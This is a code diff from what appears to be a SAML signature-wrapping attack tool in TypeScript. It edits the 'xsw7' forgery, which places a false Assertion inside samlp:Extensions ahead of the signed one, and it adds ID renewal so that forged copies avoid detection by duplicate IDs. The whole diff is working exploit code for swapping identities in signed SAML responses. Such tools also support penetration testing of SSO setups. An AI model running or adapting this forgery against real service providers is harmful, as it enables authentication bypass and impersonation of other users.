@@ -34,7 +34,8 @@ function twin(loot: Loot, xml: string, signature: string): string {
   return xml.replace(signature, '').replaceAll(loot.own, loot.wanted)
 }
 
-const renewed = (xml: string): string => xml.replace(/ ID="[^"]*"/, ` ID="${newId()}"`)
+/** New IDs, so that nobody can tell the copy by an ID that occurs twice. */
+const renewed = (xml: string): string => xml.replace(/ ID="[^"]*"/g, () => ` ID="${newId()}"`)
 
 /** The parts that the wrapping attacks on a signed Response move about. */
 function responseParts(loot: Loot): { signature: string; original: string; evil: string } {
@@ -120,8 +121,8 @@ const wrapping: Attack[] = [
     name: 'xsw7',
     sentence: 'a false Assertion in Extensions before the signed one',
     forge: (loot) => {
-      const { response, whole, signature } = assertionParts(loot)
-      const extensions = `<samlp:Extensions>${twin(loot, whole, signature)}</samlp:Extensions>`
+      const { response, whole, evil } = assertionParts(loot)
+      const extensions = `<samlp:Extensions>${evil}</samlp:Extensions>`
       return afterIssuer(response, extensions).replace('@', whole)
     },
   },
